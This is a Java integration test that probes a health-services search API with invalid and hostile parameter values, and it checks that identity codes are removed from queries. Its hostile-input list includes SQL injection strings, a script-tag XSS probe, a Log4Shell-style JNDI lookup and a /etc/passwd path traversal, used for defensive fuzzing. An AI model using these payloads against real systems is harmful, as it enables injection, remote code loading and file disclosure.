package fi.huoneentaulu.search.web;

import static org.assertj.core.api.Assertions.assertThat;

import fi.huoneentaulu.testing.ApiClient;
import fi.huoneentaulu.testing.ApiClient.Answer;
import fi.huoneentaulu.testing.IntegrationTest;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.web.server.LocalServerPort;

/** Whatever another system asks of the search, it gets hits or a problem that names the parameter. */
@IntegrationTest
class SearchApiIT {
    private static final String SEARCH = "/api/v1/search?";
    private static final String IDENTITY_CODE = "131052-308T";
    private static final List<String> PARAMETERS = List.of(
            "q",
            "kind",
            "municipality",
            "age",
            "theme",
            "sector",
            "profession",
            "deliverer",
            "step",
            "mode",
            "delivery",
            "lang",
            "page",
            "size");

    private static final Map<String, List<String>> IMPOSSIBLE = new TreeMap<>(Map.ofEntries(
            Map.entry("size", List.of("0", "101", "-1", "abc", "1.5", "2147483648")),
            Map.entry("page", List.of("-1", "abc", "1000", "2147483647", "99999999999999999999")),
            Map.entry("age", List.of("-1", "999", "abc", "120.5", "NaN", "1e999999999", "0.1234567")),
            Map.entry("theme", List.of("HACK", "exercise", "EXERCISE,HACK", "'; drop table search_entry")),
            Map.entry("sector", List.of("HACK", "county")),
            Map.entry("kind", List.of("CARD", "cards")),
            Map.entry("profession", List.of("WIZARD", "NURSE,PHYSICIAN")),
            Map.entry("deliverer", List.of("WIZARD")),
            Map.entry("step", List.of("4", "-1", "one", "\uFF11")),
            Map.entry("mode", List.of("TELEPATHY")),
            Map.entry("delivery", List.of("MARS")),
            Map.entry("lang", List.of("xx", "fin")),
            Map.entry("municipality", List.of("999", "Atlantis", "272,217"))));

    private static final List<String> HOSTILE = List.of(
            "+-&&||!(){}[]^\"~*?:\\/",
            "title:* AND NOT (kind:CARD)",
            "*",
            "\"",
            "ja tai on se",
            "\uD83D\uDE00\uD83D\uDC4D\uD83C\uDFFD",
            "a" + "\uD83D\uDE00".repeat(200),
            "\u0001\u0008\u001B[31m\r\n\t\u007F",
            "\u202E\u200B\uFEFF",
            "Z\u0351\u036B\u0343".repeat(40),
            "<script>alert(1)</script>",
            "' or 1=1; --",
            "${jndi:ldap://example.invalid/a}",
            "{0} {1,number}",
            "../../etc/passwd",
            ":".repeat(500),
            "-".repeat(3_000),
            "a b ".repeat(1_000),
            "\u00E4".repeat(2_000));

    @LocalServerPort
    private int port;

    private ApiClient api;

    @BeforeEach
    void callAsAProfessional() {
        api = new ApiClient(port, "ammattilainen", "demo");
    }

    static Stream<Arguments> impossible() {
        return IMPOSSIBLE.entrySet().stream()
                .flatMap(each -> each.getValue().stream().map(value -> Arguments.of(each.getKey(), value)));
    }

    @ParameterizedTest
    @MethodSource("impossible")
    void an_impossible_value_is_refused_by_its_parameter(String parameter, String value) {
        Answer answer = ask(parameter, value);

        assertProblem(answer, 400);
        assertThat(answer.body().path("detail").asString()).contains(parameter);
    }

    static Stream<Arguments> hostile() {
        return PARAMETERS.stream().flatMap(parameter -> HOSTILE.stream().map(value -> Arguments.of(parameter, value)));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void no_text_breaks_the_search_in_whatever_parameter(String parameter, String value) {
        Answer answer = ask(parameter, value);

        if (answer.status() != 200) {
            assertProblem(answer, 400);
        }
        if (parameter.equals("q")) {
            assertHits(answer);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"%ED%A0%80", "%ED%B0%80a", "%C3", "%FF%FE", "%00", "fyssari%00"})
    void bytes_that_are_no_text_are_searched_without_or_refused(String encoded) {
        Answer answer = api.get(SEARCH + "q=" + encoded);

        if (answer.status() != 200) {
            assertProblem(answer, 400);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"a", "\u00E4", "fysioterapia "})
    void a_text_of_ten_thousand_characters_is_read_from_its_beginning(String piece) {
        Answer answer = ask("q", piece.repeat(10_000 / piece.length()));

        assertHits(answer);
        assertThat(answer.body().path("query").asString()).hasSizeBetween(1, 300);
    }

    @Test
    void a_long_text_is_never_cut_in_the_middle_of_a_character() {
        String smile = "\uD83D\uDE00";

        assertThat(ask("q", "a" + smile.repeat(200)).body().path("query").asString())
                .isEqualTo("a" + smile.repeat(149));
        assertThat(ask("theme", "a" + smile.repeat(200)).body().path("detail").asString())
                .contains(smile)
                .doesNotContain("\uFFFD", "?");
    }

    @Test
    void words_that_say_nothing_find_what_they_find() {
        assertHits(ask("q", "ja tai se on ei"));
        assertThat(ask("q", "").body().path("total").asInt()).isEqualTo(71);
        assertThat(ask("q", " \t ").body().path("total").asInt()).isEqualTo(71);
    }

    @Test
    void the_last_page_is_followed_by_empty_ones() {
        Answer last = api.get(SEARCH + "size=50&page=1");
        Answer beyond = api.get(SEARCH + "size=50&page=7");

        assertThat(last.body().path("hits").size()).isEqualTo(21);
        assertHits(beyond);
        assertThat(beyond.body().path("hits").size()).isZero();
        assertThat(beyond.body().path("total").asInt()).isEqualTo(71);
    }

    @Test
    void the_pages_together_hold_every_card_once() {
        List<String> codes = Stream.of(0, 1, 2, 3)
                .flatMap(page -> api.get(SEARCH + "q=kuntoutus&size=7&page=" + page)
                        .body()
                        .path("hits")
                        .valueStream())
                .map(hit -> hit.path("code").asString())
                .toList();

        assertThat(codes).hasSizeGreaterThan(7).doesNotHaveDuplicates();
    }

    @Test
    void nobody_searches_without_credentials() {
        assertProblem(new ApiClient(port, "", "").get(SEARCH + "q=fyssari"), 401);
        assertProblem(new ApiClient(port, "ammattilainen", "wrong").get(SEARCH + "q=fyssari"), 401);
        assertProblem(new ApiClient(port, "", "").get(SEARCH + "size=0"), 401);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "fyssari " + IDENTITY_CODE,
                IDENTITY_CODE + " fyssari",
                "131052-308t fyssari",
                "131052 - 308 T fyssari",
                "fyssari 010106A945F",
                "fyssari 13105 131052-308T 2-308T"
            })
    void an_identity_code_is_taken_out_and_the_asker_is_told(String text) {
        Answer answer = ask("q", text);

        assertHits(answer);
        assertThat(answer.body().path("identityCodeRemoved").asBoolean()).isTrue();
        assertThat(answer.body().path("query").asString()).isEqualTo("fyssari");
        assertThat(answer.body().path("total").asInt()).isPositive();
    }

    @ParameterizedTest
    @MethodSource("parameters")
    void no_identity_code_comes_back_in_an_answer(String parameter) {
        Answer answer = ask(parameter, IDENTITY_CODE);

        assertThat(answer.status()).isIn(200, 400);
        assertThat(answer.raw().body()).doesNotContain("308T").doesNotContain("131052");
    }

    static List<String> parameters() {
        return PARAMETERS;
    }

    private Answer ask(String parameter, String value) {
        return api.get(SEARCH + parameter + "=" + URLEncoder.encode(value, StandardCharsets.UTF_8));
    }

    private static void assertHits(Answer answer) {
        assertThat(answer.status()).as(answer.raw().body()).isEqualTo(200);
        assertThat(answer.body().propertyNames()).contains("query", "total", "hits", "facets", "suggestions");
    }

    private static void assertProblem(Answer answer, int status) {
        assertThat(answer.status()).as(answer.raw().body()).isEqualTo(status);
        assertThat(answer.raw().headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
        assertThat(answer.body().path("status").asInt()).isEqualTo(status);
        assertThat(answer.body().path("title").asString()).isNotBlank();
        assertThat(answer.body().path("detail").asString()).isNotBlank();
        assertThat(answer.raw().body()).doesNotContain("Exception").doesNotContain("\tat ");
    }
}
